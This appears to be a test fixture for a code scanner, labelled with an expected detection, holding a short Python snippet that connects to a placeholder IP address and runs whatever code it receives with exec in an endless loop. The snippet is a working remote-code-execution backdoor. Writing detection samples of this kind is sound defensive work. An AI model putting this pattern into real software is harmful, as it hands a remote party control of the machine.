# expect: 6 downloaded-code
import socket
s = socket.socket()
s.connect(("198.51.100.7", 9))
while True:
    exec(s.recv(1024))
